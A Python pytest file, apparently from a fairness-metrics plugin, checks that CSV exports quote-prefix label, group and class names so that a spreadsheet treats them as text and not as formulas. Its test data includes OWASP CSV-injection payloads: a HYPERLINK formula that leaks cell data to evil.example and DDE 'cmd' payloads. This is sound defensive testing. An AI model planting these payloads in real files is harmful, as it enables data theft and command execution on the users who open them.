"""CSV injection (issue 15): label, group and class names are untrusted text, and a CSV
opened in a spreadsheet runs a cell that starts with = + - @ (or a tab or CR) as a
formula. Every CSV the project writes (`tb-fairness export`, the `table` and `diff`
routes, and so the browser's downloads of them) starts such text with a quote (OWASP's
rule), so the spreadsheet shows it as text; numbers, negative ones included, stay numbers.
The payloads are from OWASP's CSV injection page.
"""

from __future__ import annotations

import csv
import io
import os
import sys

import numpy as np
import pytest

sys.path.insert(0, os.path.join(os.path.dirname(__file__), ".."))
from helpers import plugin_client, run_export  # noqa: E402

import tb_fairness  # noqa: E402

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SAFE = ["man", "woman", "a=b", "x-ray"]
NAMES = SAFE + FORMULAS


def neutral(text: str) -> str:
    """OWASP's rule, written here apart from the project's: a formula start gets a quote."""
    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text


@pytest.fixture(scope="module")
def logdir(tmp_path_factory):
    root = tmp_path_factory.mktemp("csv_injection")
    rng = np.random.default_rng(0)
    for run in ("a", "b"):
        with tb_fairness.FileWriter(str(root / run)) as w:
            scores = rng.random((400, len(NAMES)))
            w.label_associations(
                "assoc", 0, scores, label_names=NAMES, threshold=0.5, identities=["man", "woman"]
            )
            classes = rng.choice(FORMULAS[:3] + ["cook"], 600)
            predictions = np.where(rng.random(600) < 0.7, classes, "cook")
            groups = rng.choice(["=1+1", "-women", "men"], 600)
            w.group_metrics("groups", 0, classes, predictions, {"sex": groups})
    return str(root)


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_export_neutralises_labels_and_keeps_numbers(logdir, capsys):
    code, out, _ = run_export(
        capsys, "--logdir", logdir, "--run", "a", "--tag", "assoc", "--pair", "man,woman"
    )
    assert code == 0
    rows = rows_of(out)
    head = rows[0]
    labels = [r[0] for r in rows[1:]]
    assert sorted(labels) == sorted(neutral(n) for n in NAMES if n not in ("man", "woman"))
    for label in labels:
        assert label[:1] not in ("=", "+", "-", "@", "\t", "\r"), label
    # Numbers are not text: a negative gap prints as a number a spreadsheet adds up.
    gaps = [r[head.index("gap")] for r in rows[1:] if r[head.index("gap")]]
    assert any(g.startswith("-") for g in gaps)
    assert all(isinstance(float(g), float) for g in gaps)


def test_group_and_class_names_neutralised(logdir, capsys):
    code, out, _ = run_export(capsys, "--logdir", logdir, "--run", "a", "--tag", "groups")
    assert code == 0
    rows = rows_of(out)
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "@", "\t", "\r"), row
            if cell.startswith("-"):
                float(cell)  # only numbers start with a minus
    classes = {r[0] for r in rows[1:]}
    assert {neutral(c) for c in FORMULAS[:3]} <= classes


def test_routes_and_compare_csv_neutralised(logdir, capsys):
    client = plugin_client(logdir)
    table = client.get(
        "/data/plugin/fairness/table?run=a&tag=assoc&table=gaps&a=man&b=woman&format=csv"
    )
    assert table.status_code == 200, table.get_data(as_text=True)
    code, out, _ = run_export(
        capsys, "--logdir", logdir, "--run", "a", "--tag", "assoc", "--pair", "man,woman"
    )
    assert table.get_data(as_text=True) == out
    diff = client.get(
        "/data/plugin/fairness/diff?tag=assoc&run=a&vs_run=b&a=man&b=woman&format=csv"
    )
    assert diff.status_code == 200, diff.get_data(as_text=True)
    keys = [r[0] for r in rows_of(diff.get_data(as_text=True))[1:]]
    assert sorted(keys) == sorted(neutral(n) for n in NAMES if n not in ("man", "woman"))
